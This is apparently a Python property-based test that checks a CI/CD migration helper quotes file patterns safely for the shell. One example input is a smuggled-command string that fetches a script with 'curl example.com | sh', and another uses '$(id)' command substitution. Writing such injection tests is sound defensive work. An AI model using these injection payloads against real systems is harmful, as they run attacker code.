"""The sentences that several explanations share."""

from __future__ import annotations

import shlex

from hypothesis import example, given
from hypothesis import strategies as st

from cicd_actions.run_migrations_oneshot.sentences import removed_files


@given(st.lists(st.text(min_size=1), min_size=1, max_size=3))
@example(["*/0003_x'; curl example.com | sh #.py", "*$(id)*"])
def test_a_name_of_the_project_is_one_word_of_the_command(patterns: list[str]) -> None:
    words = shlex.split(removed_files(*patterns))
    assert words[words.index("--") + 1 :] == patterns
